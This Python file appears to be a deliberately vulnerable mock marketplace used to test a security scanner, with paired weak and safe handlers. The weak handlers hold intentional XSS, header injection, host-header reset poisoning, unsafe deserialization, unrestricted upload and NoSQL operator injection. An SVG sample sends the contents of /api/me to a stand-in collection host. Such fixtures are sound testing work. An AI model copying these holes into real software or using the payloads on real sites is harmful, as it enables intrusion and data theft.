"""A market place: what it echoes, what it unpacks, what it lets people upload; weak and proper."""

import base64
import hashlib
import json
import pickle
from html import escape

from examples.shop.catalogue import safe_page
from examples.shop.store import SIGNING_KEY, Shop
from examples.shop.web import (
    HTML,
    Answer,
    Asked,
    Handler,
    Route,
    data,
    page,
    problem,
    redirect,
    text,
)

# --- echoes ------------------------------------------------------------------------------------


def track_weak(_shop: Shop, asked: Asked) -> Answer:
    script = (
        f"<script>window.campaign = {{ source: '{asked.arg('ref')}', page: 'start' }};</script>"
    )
    return page("Market", f"<h1>Market</h1>\n{script}")


def track_safe(shop: Shop, asked: Asked) -> Answer:
    source = escape(json.dumps({"source": asked.arg("ref")}))
    return safe_page(shop, "Market", f'<h1>Market</h1><div data-campaign="{source}"></div>')


def back_weak(_shop: Shop, asked: Asked) -> Answer:
    return page("Sold out", f'<h1>Sold out</h1><a href="{escape(asked.arg("url"))}">Back</a>')


def back_safe(shop: Shop, asked: Asked) -> Answer:
    url = asked.arg("url")
    target = escape(url) if url.startswith("/") and url[1:2] not in {"/", "\\"} else "/"
    return safe_page(shop, "Sold out", f'<h1>Sold out</h1><a href="{target}">Back</a>')


def suggest(*, careful: bool) -> Handler:
    """Suggestions as JSON; the careless ones are labelled as a page."""

    def answer(_shop: Shop, asked: Asked) -> Answer:
        kind = "application/json" if careful else HTML
        return data({"query": asked.arg("q"), "suggestions": []}, kind=kind)

    return answer


def language(*, careful: bool) -> Handler:
    """The careless one writes what it got into a header, line break and all."""

    def answer(_shop: Shop, asked: Asked) -> Answer:
        word = asked.arg("lang")
        if careful:
            word = word if word in {"de", "en", "fr"} else "en"
            cookie = f"lang={word}; Path=/; Secure; SameSite=Lax"
            return redirect("/", ("Set-Cookie", cookie))
        kept, _, more = word.partition("\r\n")
        name, _, value = more.partition(": ")
        split = ((name, value),) if name else ()
        return redirect("/", ("Content-Language", kept), *split)

    return answer


def forgotten(*, careful: bool) -> Handler:
    """The link to a new password; the careless one begins with whatever host was asked for."""

    def answer(_shop: Shop, asked: Asked) -> Answer:
        host = "safe-market.example" if careful else asked.header("x-forwarded-host") or asked.host
        link = f"https://{host}/reset/confirm"
        return redirect(link, ("Vary", "Accept-Encoding"))

    return answer


# --- objects -----------------------------------------------------------------------------------

_VIEW = b"\xff\x01\x0f\x0f\x05\x0a1642638740dd"
VIEW_WEAK = base64.b64encode(_VIEW).decode()
VIEW_SAFE = base64.b64encode(_VIEW + hashlib.sha256(SIGNING_KEY + _VIEW).digest()).decode()
PICKLE = base64.b64encode(pickle.dumps({"cart": [1, 2]}, protocol=4)).decode()
JAVA = base64.b64encode(
    b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\n"
    b"loadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0c"
).decode()
DOTNET = base64.b64encode(
    b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00"
    b"BMarket.Web, Version=1.0.0.0, Culture=neutral, PublicKeyToken=null"
).decode()
PHP = 'O:4:"Cart":2:{s:5:"items";a:1:{i:0;i:3;}s:7:"voucher";N;}'


def view_state(*, careful: bool) -> Handler:
    value = VIEW_SAFE if careful else VIEW_WEAK
    form = (
        '<h1>Delivery</h1><form method="post" action="./delivery.aspx" id="form1">'
        f'<input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="{value}">'
        '<input type="hidden" name="__VIEWSTATEGENERATOR" value="CA0B0334">'
        '<input type="hidden" name="__EVENTVALIDATION" value="'
        f'{base64.b64encode(hashlib.sha512(VIEW_SAFE.encode()).digest()).decode()}"></form>'
    )
    return lambda shop, _: safe_page(shop, "Delivery", form)


_UNPACKING = {
    "java": "java.io.InvalidClassException: market.Cart; local class incompatible: stream "
    "classdesc serialVersionUID = 1, local class serialVersionUID = 2\n\tat java.io."
    "ObjectStreamClass.initNonProxy(ObjectStreamClass.java:699)\n\tat java.io."
    "ObjectInputStream.readObject(ObjectInputStream.java:431)\n",
    "pickle": "_pickle.UnpicklingError: pickle data was truncated\n",
    "dotnet": "System.Runtime.Serialization.SerializationException: End of Stream encountered "
    "before parsing was completed.\n   at System.Runtime.Serialization.Formatters.Binary."
    "BinaryFormatter.Deserialize(Stream serializationStream)\n",
    "php": "PHP Notice:  unserialize(): Error at offset 41 of 57 bytes in "
    "/var/www/market/cart.php on line 18\n",
}


def cart(*, careful: bool) -> Handler:
    """Takes the cart from a parameter, in the native format of a language, or as signed JSON."""

    def answer(_shop: Shop, asked: Asked) -> Answer:
        value = asked.field("state")
        if careful:
            return data({"items": 2}) if value.startswith("eyJ") else problem(400, "Bad state")
        if asked.field("step") == "2":
            return text(_UNPACKING[asked.parts["kind"]], status=500)
        return data({"items": 2})

    return answer


# --- files -------------------------------------------------------------------------------------


def upload_weak(_shop: Shop, asked: Asked) -> Answer:
    name = asked.body.partition(b'filename="')[2].partition(b'"')[0].decode()
    return data({"stored": True, "url": f"/media/{name}"}, status=201)


def upload_safe(shop: Shop, asked: Asked) -> Answer:
    if b"Content-Type: image/png" not in asked.body:
        return problem(415, "Only PNG and JPEG pictures")
    return data({"stored": True, "id": shop.token("file")}, status=201)


_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><script>fetch("/api/me").then(r '
    '=&gt; r.text()).then(t =&gt; new Image().src = "https://collect.example/?" + t)</script>'
    "</svg>\n"
)
HOMEPAGE = (
    "<!doctype html><title>me</title><h1>My stall</h1><script>document.title = document.cookie"
    "</script>\n"
)
_AS_FILE = ("Content-Disposition", 'attachment; filename="stall.html"')
_BOXED = ("Content-Security-Policy", "sandbox; default-src 'none'; frame-ancestors 'none'")


# --- log-in by JSON ----------------------------------------------------------------------------


def log_in(*, careful: bool) -> Handler:
    """The careless one hands operators of the database on to it."""

    def answer(shop: Shop, asked: Asked) -> Answer:
        words = asked.data() or {"user": asked.arg("user[$ne]")}
        if any(not isinstance(word, str) for word in words.values()):
            if careful:
                return problem(400, "user and password must be texts")
            return data({"user": "admin", "role": "owner", "session": shop.token("session")})
        return problem(401, "User name or password is wrong")

    return answer


def stalls(*, careful: bool) -> Handler:
    def answer(_shop: Shop, asked: Asked) -> Answer:
        operator = "[$" in asked.query or "%5B%24" in asked.query.upper()
        if careful and operator:
            return problem(400, "Unknown filter")
        every = [{"stall": n, "draft": n > 2} for n in range(1, 5)]
        return data({"stalls": every if operator else every[:2]})

    return answer


def site(*, careful: bool) -> dict[str, Route]:
    safe_files = text(HOMEPAGE, _AS_FILE, _BOXED, kind="application/octet-stream")
    return {
        "GET /": track_safe if careful else track_weak,
        "GET /sold-out": back_safe if careful else back_weak,
        "GET /suggest": suggest(careful=careful),
        "GET /language": language(careful=careful),
        "POST /forgotten": forgotten(careful=careful),
        "GET /delivery.aspx": view_state(careful=careful),
        "POST /cart/{kind}": cart(careful=careful),
        "POST /upload": upload_safe if careful else upload_weak,
        "GET /media/stall.html": safe_files if careful else text(HOMEPAGE, kind=HTML),
        "GET /media/logo.svg": (
            text(_SVG, _BOXED, ("Content-Disposition", "attachment"), kind="image/svg+xml")
            if careful
            else text(_SVG, kind="image/svg+xml")
        ),
        "POST /api/login": log_in(careful=careful),
        "GET /api/stalls": stalls(careful=careful),
    }
